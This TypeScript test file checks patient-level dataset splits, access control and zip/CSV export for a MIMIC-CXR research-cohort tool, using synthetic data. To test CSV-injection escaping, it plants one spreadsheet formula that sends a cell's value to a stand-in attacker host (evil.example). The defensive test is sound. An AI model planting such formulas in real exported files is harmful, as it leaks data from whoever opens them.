import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { labDatasets } from "@/db/schema";
import type { CurrentUser } from "@/lib/auth/current-user";
import type { DatasetRef } from "@/lib/datasets/find-dataset";
import { getDb } from "@/lib/db/client";
import { createLab, createUser, credentialMember } from "@/lib/factories";
import { cohortFilters, getCohort, saveCohort } from "@/lib/mimic/cohorts/cohorts";
import { cohortPatients, cohortZipStream, COHORT_COLUMNS, exportSources } from "@/lib/mimic/cohorts/export-zip";
import { assignPatientSplits, type SplitPatient } from "@/lib/mimic/cohorts/patient-splits";
import { saveCohortSchema } from "@/lib/mimic/cohorts/cohorts";
import type { RandomSplitSpec, SplitSpec } from "@/lib/mimic/cohorts/split-spec";
import { LABELS } from "@/lib/mimic/import/file-specs";
import { findDataset, importMimicDirectory } from "@/lib/mimic/import/import-directory";
import { resolveJoinedSources } from "@/lib/mimic/pairing/joined-sources";
import { setVersionPair } from "@/lib/mimic/pairing/version-pairs";
import { writeSyntheticVersion } from "@/lib/mimic/synth/write-version";
import { SPLITS } from "@/lib/mimic/tokens";
import { isolatedDatabaseForFile } from "../support/isolated-database";

// Its own database: it imports both projects' versions and rewrites one image's view position.
isolatedDatabaseForFile();
const execFileAsync = promisify(execFile);

/**
 * The cohort a paper cites (decision 034): reproducible patient-level splits and the zip export,
 * read back by the machine's python3 (zipfile + csv, what pandas' read_csv parses the same way)
 * from a real HTTP answer on loopback. Expected figures are SQL over the wide rows written here.
 */
let root: string;
let jpg: DatasetRef;
let cxr: DatasetRef;
let both: CurrentUser;
let jpgOnly: CurrentUser;
let cxrOnly: CurrentUser;
let server: http.Server;
let base: string;
const FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)";

const asUser = (u: Awaited<ReturnType<typeof createUser>>, labId: string): CurrentUser => ({ id: u.id, email: u.email, name: u.name, role: u.role, labId });
const ref = (d: { id: string; slug: string; version: string }): DatasetRef => ({ ...d, title: d.slug, duaName: "PhysioNet Credentialed Health Data Use Agreement", duaVersion: "1.5.0" });
const stratified = (seed: number, label = "Edema"): RandomSplitSpec =>
  saveCohortSchema.shape.split.parse({ kind: "random", seed, ratios: { train: 70, validate: 15, test: 15 }, stratify: { labeler: "chexpert", label } }) as RandomSplitSpec;

// The route's answer, served as the route serves it: the zip stream as a response body on loopback.
const pending = new Map<string, () => Promise<ReadableStream<Uint8Array>>>();

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), "labgate-cohort-zip-"));
  for (const project of ["mimic-cxr-jpg", "mimic-cxr"] as const) {
    const dir = path.join(root, project);
    await writeSyntheticVersion({ out: dir, project, version: "2.1.0", studies: 500, seed: 34 });
    const ds = (await findDataset({ slug: project, version: "2.1.0" }))!;
    await importMimicDirectory({ dir, dataset: ds });
    if (project === "mimic-cxr") cxr = ref(ds);
    else jpg = ref(ds);
  }
  const db = getDb();
  const lab = await createLab(db);
  for (const d of [jpg, cxr]) await db.insert(labDatasets).values({ labId: lab.id, datasetId: d.id });
  const steward = asUser(await createUser(db, { labId: lab.id, role: "steward" }), lab.id);
  both = asUser(await createUser(db, { labId: lab.id, role: "member" }), lab.id);
  jpgOnly = asUser(await createUser(db, { labId: lab.id, role: "member" }), lab.id);
  cxrOnly = asUser(await createUser(db, { labId: lab.id, role: "member" }), lab.id);
  await credentialMember(db, { labId: lab.id, userId: both.id, stewardId: steward.id, datasetIds: [jpg.id, cxr.id] });
  await credentialMember(db, { labId: lab.id, userId: jpgOnly.id, stewardId: steward.id, datasetIds: [jpg.id] });
  await credentialMember(db, { labId: lab.id, userId: cxrOnly.id, stewardId: steward.id, datasetIds: [cxr.id] });
  await setVersionPair({ actor: steward, cxrDatasetId: cxr.id, jpgDatasetId: jpg.id, ip: null });
  // A view position a spreadsheet would run as a formula (the files are data, not trusted).
  await db.execute(sql`update mimic_image set view_position = ${FORMULA} where dataset_id = ${jpg.id} and dicom_id = (
    select min(i.dicom_id) from mimic_image i join mimic_study d on d.dataset_id = i.dataset_id and d.study_id = i.study_id where i.dataset_id = ${jpg.id} and 'PA' = any(d.views))`);

  server = http.createServer((req, res) => {
    const make = pending.get(req.url ?? "");
    if (!make) return void res.writeHead(404).end();
    make().then(
      (body) => {
        res.writeHead(200, { "content-type": "application/zip", "cache-control": "no-store, private" });
        Readable.fromWeb(body as import("node:stream/web").ReadableStream).pipe(res);
      },
      (e: Error) => res.writeHead(403).end(e.message),
    );
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 240_000);
afterAll(async () => {
  await new Promise<void>((r) => server.close(() => r()));
  rmSync(root, { recursive: true, force: true });
});

type Unzipped = { names: string[]; columns: string[]; rows: Record<string, string>[]; readme: string; cff: string; filters: Record<string, unknown> };

/** Saves a cohort as the route does, downloads its zip over HTTP, and reads it with python3's zipfile and csv modules. */
async function exportAs(user: CurrentUser, dataset: DatasetRef, query: string, split: SplitSpec): Promise<Unzipped> {
  const joined = await resolveJoinedSources({ user, dataset });
  const cohort = await saveCohort({ user, datasetId: dataset.id, name: `c ${Math.random()}`, query, split, labelsDatasetId: joined.labelsDatasetId, reportDatasetId: joined.reportDatasetId });
  const stored = (await getCohort({ labId: user.labId, datasetId: dataset.id, cohortId: cohort.id }))!;
  expect(stored.split).toEqual(split);
  return download(user, dataset, joined, stored);
}

async function download(user: CurrentUser, dataset: DatasetRef, joined: Awaited<ReturnType<typeof resolveJoinedSources>>, stored: NonNullable<Awaited<ReturnType<typeof getCohort>>>, attempt = 0): Promise<Unzipped> {
  const key = `/${stored.id}/${attempt}`;
  pending.set(key, () =>
    cohortZipStream({
      meta: { dataset, cohortId: stored.id, cohortName: stored.name, query: stored.query, spec: stored.split, exportedBy: user.email, exportedAt: new Date() },
      sources: exportSources(dataset, joined),
      filters: cohortFilters(stored.query),
    }),
  );
  const res = await fetch(base + key);
  if (res.status !== 200) throw new Error(await res.text());
  const file = path.join(root, `${stored.id}-${attempt}.zip`);
  writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  const py = [
    "import csv, io, json, sys, zipfile",
    "z = zipfile.ZipFile(sys.argv[1])",
    "assert z.testzip() is None",
    "r = csv.DictReader(io.TextIOWrapper(z.open('cohort.csv'), encoding='utf-8', newline=''))",
    "rows = list(r)",
    "print(json.dumps({'names': z.namelist(), 'columns': r.fieldnames, 'rows': rows, 'readme': z.read('README.txt').decode(), 'cff': z.read('CITATION.cff').decode(), 'filters': json.loads(z.read('filters.json'))}))",
  ].join("\n");
  // execFile, not execFileSync: parallel downloads are read in parallel.
  const { stdout } = await execFileAsync("python3", ["-c", py, file], { encoding: "utf8", maxBuffer: 256 * 1024 * 1024 });
  return JSON.parse(stdout) as Unzipped;
}

function splitOfPatients(rows: Record<string, string>[]): Map<string, Set<string>> {
  const m = new Map<string, Set<string>>();
  for (const r of rows) m.set(r.subject_id!, (m.get(r.subject_id!) ?? new Set()).add(r.split!));
  return m;
}

describe("patient-level splits (pure)", () => {
  const patients: SplitPatient[] = Array.from({ length: 2_003 }, (_, i) => ({ subjectId: 10_000_000 + i * 37, stratum: i % 9 === 0 }));

  it("the same seed, ratios and label give the same assignment whatever the input order; another seed another", () => {
    const a = assignPatientSplits(patients, stratified(7));
    const shuffled = [...patients].sort((x, y) => ((x.subjectId * 7919) % 1009) - ((y.subjectId * 7919) % 1009));
    const b = assignPatientSplits(shuffled, stratified(7));
    expect([...b.entries()].sort((x, y) => x[0] - y[0])).toEqual([...a.entries()].sort((x, y) => x[0] - y[0]));
    const c = assignPatientSplits(patients, stratified(8));
    expect(patients.filter((p) => a.get(p.subjectId) !== c.get(p.subjectId)).length).toBeGreaterThan(500);
    // A patient's split does not depend on who else is in the cohort, beyond the boundaries moving by the count.
    expect(a.size).toBe(patients.length);
  });

  it("within each stratum each split holds its ratio of patients to within one patient", () => {
    const spec = stratified(11);
    const a = assignPatientSplits(patients, spec);
    for (const stratum of [true, false]) {
      const group = patients.filter((p) => p.stratum === stratum);
      for (const s of SPLITS) {
        const n = group.filter((p) => a.get(p.subjectId) === s).length;
        expect(Math.abs(n - (group.length * spec.ratios[s]) / 100), `${stratum} ${s}`).toBeLessThanOrEqual(1);
      }
    }
  });

  it("refuses ratios that do not add up to 100 and labels that do not exist, with the reason", () => {
    const bad = saveCohortSchema.safeParse({ name: "x", query: "", split: { kind: "random", seed: 1, ratios: { train: 80, validate: 10, test: 5 }, stratify: null } });
    expect(bad.success).toBe(false);
    expect(JSON.stringify(bad.error?.issues)).toContain("must add up to 100");
    const label = saveCohortSchema.safeParse({ name: "x", query: "", split: { kind: "random", seed: 1, ratios: { train: 80, validate: 10, test: 10 }, stratify: { labeler: "chexpert", label: "Headache" } } });
    expect(label.success).toBe(false);
    expect(saveCohortSchema.parse({ name: "x", query: "" }).split).toEqual({ kind: "official" });
  });
});

describe("a cohort's zip, read by python3", () => {
  it("holds cohort.csv (one row per image, JPG and DICOM paths, every label source, the split), README.txt, CITATION.cff and filters.json", async () => {
    const z = await exportAs(both, jpg, "view=PA", { kind: "official" });
    expect(z.names.sort()).toEqual(["CITATION.cff", "README.txt", "cohort.csv", "filters.json"]);
    expect(z.columns).toEqual([...COHORT_COLUMNS]);
    const want = await getDb().execute<{ dicom_id: string; jpg: string; dcm: string; split: string | null; chexpert: (number | null)[] | null; negbio: (number | null)[] | null; test_labels: (number | null)[] | null }>(sql`
      select i.dicom_id, i.path as jpg, c.path as dcm, i.split, d.chexpert, d.negbio, d.test_labels
      from mimic_image i join mimic_study d on d.dataset_id = i.dataset_id and d.study_id = i.study_id
      left join mimic_image c on c.dataset_id = ${cxr.id} and c.dicom_id = i.dicom_id
      where i.dataset_id = ${jpg.id} and 'PA' = any(d.views) order by i.study_id, i.dicom_id`);
    expect(want.rows.length).toBeGreaterThan(100);
    expect(z.rows.map((r) => r.dicom_id)).toEqual(want.rows.map((r) => r.dicom_id));
    const text = (v: number | null | undefined) => (v === null || v === undefined ? "" : v.toFixed(1));
    for (const [i, w] of want.rows.entries()) {
      const r = z.rows[i]!;
      expect([r.jpg_path, r.dicom_path, r.split, r.official_split]).toEqual([w.jpg, w.dcm, w.split ?? "", w.split ?? ""]);
      expect(r.jpg_path).toMatch(/^files\/p1\d\/p\d{8}\/s\d{8}\/[0-9a-f-]+\.jpg$/);
      expect(r.dicom_path).toMatch(/\.dcm$/);
      expect(LABELS.map((l) => [r[`chexpert_${l}`], r[`negbio_${l}`], r[`radiologist_${l}`]])).toEqual(LABELS.map((_, k) => [text(w.chexpert?.[k]), text(w.negbio?.[k]), text(w.test_labels?.[k])]));
    }
    // The radiologists' labels of the 2.1.0 test set are there, and the four label states are kept.
    expect(z.rows.some((r) => LABELS.some((l) => r[`radiologist_${l}`] !== ""))).toBe(true);
    expect(new Set(z.rows.flatMap((r) => LABELS.map((l) => r[`chexpert_${l}`])))).toEqual(new Set(["1.0", "0.0", "-1.0", ""]));
    // The view position that reads as a formula is written as text.
    const formula = z.rows.filter((r) => r.view_position!.includes("HYPERLINK"));
    expect(formula.map((r) => r.view_position)).toEqual([`'${FORMULA}`]);
    expect(z.rows.every((r) => !/^[=+@]/.test(r.view_position!))).toBe(true);
    expect(z.readme).toContain("pandas.read_csv('cohort.csv')");
    expect(z.readme).toContain("do not share it outside credentialed users");
    expect(z.cff).toMatch(/^cff-version: 1\.2\.0\n/);
    expect(z.cff).toContain('doi: "10.1038/s41597-019-0322-0"');
    expect(z.filters).toMatchObject({ query: "view=PA", split: { kind: "official" }, versions: ["mimic-cxr-jpg 2.1.0", "mimic-cxr 2.1.0"] });
    const counts = z.filters.counts as Record<string, { images: number }>;
    expect(Object.values(counts).reduce((a, c) => a + c.images, 0)).toBe(z.rows.length);
  });

  it("a stratified random split: every image of a patient in one split, the same file twice, strata within one patient of the ratios", async () => {
    const spec = stratified(2026, "Edema");
    const a = await exportAs(both, jpg, "", spec);
    const b = await exportAs(both, jpg, "", spec);
    const csv = (z: Unzipped) => z.rows.map((r) => `${r.dicom_id},${r.split}`).join("\n");
    expect(csv(b)).toBe(csv(a));
    const patients = splitOfPatients(a.rows);
    expect([...patients.values()].every((s) => s.size === 1)).toBe(true);
    // Strata from SQL over the wide label arrays: Edema positive (1) in any of the patient's studies.
    const strata = await getDb().execute<{ subject_id: number; pos: boolean }>(sql`
      select subject_id, bool_or(coalesce(chexpert[${LABELS.indexOf("Edema") + 1}] = 1, false)) as pos from mimic_study where dataset_id = ${jpg.id} group by subject_id`);
    expect(strata.rows.filter((r) => r.pos).length).toBeGreaterThan(20);
    for (const pos of [true, false]) {
      const group = strata.rows.filter((r) => r.pos === pos && patients.has(String(r.subject_id)));
      for (const s of SPLITS) {
        const n = group.filter((r) => patients.get(String(r.subject_id))!.has(s)).length;
        expect(Math.abs(n - (group.length * spec.ratios[s]) / 100), `${pos} ${s}`).toBeLessThanOrEqual(1);
      }
    }
    expect(a.readme).toContain("seed 2026");
    expect(a.filters).toMatchObject({ split: { kind: "random", seed: 2026, algorithm: "labgate-patient-split-v1", stratify: { labeler: "chexpert", label: "Edema" } } });
    // The official split stays beside it, untouched.
    expect(a.rows.every((r) => SPLITS.includes(r.official_split as (typeof SPLITS)[number]))).toBe(true);
    // Another seed moves patients.
    const other = splitOfPatients((await exportAs(both, jpg, "", stratified(2027, "Edema"))).rows);
    expect([...patients.keys()].filter((k) => [...patients.get(k)!][0] !== [...other.get(k)!][0]).length).toBeGreaterThan(10);
  });

  it("leaves out what the member does not hold: no DICOM paths for a JPG-only member, no labels, split or JPG paths for a MIMIC-CXR-only member", async () => {
    const j = await exportAs(jpgOnly, jpg, "", { kind: "official" });
    expect(j.rows.length).toBeGreaterThan(500);
    expect(j.rows.every((r) => r.dicom_path === "" && r.jpg_path !== "")).toBe(true);
    expect(j.filters.versions).toEqual(["mimic-cxr-jpg 2.1.0"]);
    expect(j.readme).toContain("Not included: Hidden: the DICOM paths");

    const c = await exportAs(cxrOnly, cxr, "", { kind: "random", seed: 3, ratios: { train: 80, validate: 10, test: 10 }, stratify: null });
    expect(c.rows.length).toBe(j.rows.length);
    expect(c.rows.every((r) => r.jpg_path === "" && r.dicom_path!.endsWith(".dcm") && r.official_split === "" && r.view_position === "")).toBe(true);
    expect(c.rows.every((r) => LABELS.every((l) => r[`chexpert_${l}`] === "" && r[`negbio_${l}`] === "" && r[`radiologist_${l}`] === ""))).toBe(true);
    // An unstratified split needs no labels: patients still never span two splits.
    expect([...splitOfPatients(c.rows).values()].every((s) => s.size === 1 && !s.has(""))).toBe(true);
    expect(c.filters.versions).toEqual(["mimic-cxr 2.1.0"]);

    // A split stratified by a label cannot be drawn without the labels: refused, naming the version.
    await expect(exportAs(cxrOnly, cxr, "", stratified(5))).rejects.toThrow(/stratified by Edema.*mimic-cxr-jpg/);
  });

  it("16 exports of one cohort at once are the same file, row for row", async () => {
    const joined = await resolveJoinedSources({ user: both, dataset: jpg });
    const spec = stratified(99, "Pneumonia");
    const saved = await saveCohort({ user: both, datasetId: jpg.id, name: "parallel", query: "view=PA", split: spec, labelsDatasetId: joined.labelsDatasetId, reportDatasetId: joined.reportDatasetId });
    const stored = (await getCohort({ labId: both.labId, datasetId: jpg.id, cohortId: saved.id }))!;
    const all = await Promise.all(Array.from({ length: 16 }, (_, i) => download(both, jpg, joined, stored, i + 1)));
    const csv = (z: Unzipped) => z.rows.map((r) => COHORT_COLUMNS.map((c) => r[c]).join(",")).join("\n");
    expect(all[0]!.rows.length).toBeGreaterThan(100);
    for (const z of all) expect(csv(z)).toBe(csv(all[0]!));
    expect([...splitOfPatients(all[0]!.rows).values()].every((s) => s.size === 1)).toBe(true);
  });

  it("the split's patients come from one grouped scan that agrees with the CSV", async () => {
    const joined = await resolveJoinedSources({ user: both, dataset: jpg });
    const ps = await cohortPatients({ sources: exportSources(jpg, joined), filters: cohortFilters("label=Edema:positive"), spec: stratified(1) });
    const want = await getDb().execute<{ n: string }>(sql`select count(distinct subject_id) as n from mimic_study where dataset_id = ${jpg.id} and chexpert[${LABELS.indexOf("Edema") + 1}] = 1`);
    expect(ps.length).toBe(Number(want.rows[0]!.n));
    // Every patient of a cohort filtered on Edema positive is in the positive stratum.
    expect(ps.every((p) => p.stratum)).toBe(true);
  });
});
